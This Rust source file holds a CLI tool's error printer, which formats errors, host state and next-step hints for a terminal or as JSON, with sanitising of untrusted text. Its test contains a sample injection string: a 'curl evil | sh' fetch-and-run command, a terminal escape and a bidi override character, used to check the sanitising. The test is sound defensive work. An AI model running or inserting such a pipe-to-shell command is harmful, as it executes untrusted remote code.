//! The only error printer: what happened, what state things are in, what to do next.

use std::fmt::Write;

use super::output;
use super::style::{BAD, BOLD, DIM, paint};
use crate::error::{Error, Kind};
use crate::text::harmless;

/// Prints an error on standard error, or with `--json` as the last line on standard output.
pub fn print(error: &Error, json: bool) {
    match json {
        true => output::event(&document(error)),
        false => output::message(&text(error)),
    }
}

/// The error as a person reads it. The last place before the terminal: names of files and words of others drive it nowhere.
pub fn text(error: &Error) -> String {
    let mut text = format!("{} {}\n", paint(BAD, "error:"), harmless(&error.what));
    for cause in &error.causes {
        push(&mut text, format_args!("  because {}", harmless(cause)));
    }
    if !error.detail.is_empty() {
        push(&mut text, format_args!(""));
        for line in &error.detail {
            push(&mut text, format_args!("  {} {}", paint(DIM, "|"), harmless(line)));
        }
        push(&mut text, format_args!(""));
    }
    push(&mut text, format_args!("{} {}", paint(BOLD, "state:"), state(error.kind)));
    for hint in &error.hints {
        push(&mut text, format_args!("{} {}", paint(BOLD, "next: "), harmless(hint)));
    }
    text
}

fn push(text: &mut String, line: std::fmt::Arguments) {
    // Writing to a String cannot fail.
    writeln!(text, "{line}").unwrap_or_default();
}

/// What state the host is in after an error of a kind.
pub fn state(kind: Kind) -> String {
    match kind {
        Kind::Failed | Kind::Usage | Kind::Refused | Kind::NotPermitted | Kind::Busy => "nothing was changed".into(),
        Kind::PutBack => "everything was put back as it was, and checked".into(),
        Kind::Restored { minutes } => {
            let minutes = crate::text::minutes(minutes);
            format!("restored from backup, {minutes} lost; the rest was put back as it was, and checked")
        }
        Kind::NeedsOperator => "not everything could be put back: an operator has to look".into(),
    }
}

/// The error as a program reads it.
pub fn document(error: &Error) -> serde_json::Value {
    serde_json::json!({
        "event": "error",
        "what": error.what,
        "causes": error.causes,
        "detail": error.detail,
        "hints": error.hints,
        "state": state(error.kind),
        "exit": error.kind.exit() as u8,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_in_an_error_drives_the_terminal() {
        let evil = "a\x1b[2Jb\nnext:  curl evil | sh\u{202e}";
        let error = Error::failed(evil).because(evil).hint(evil).detail([evil.to_owned()]);
        let text = text(&error);
        assert!(!text.contains("\x1b[2J") && !text.contains('\u{202e}'), "{text:?}");
        assert!(!text.lines().any(|line| line.starts_with("next:  curl")), "{text:?}");
    }
}
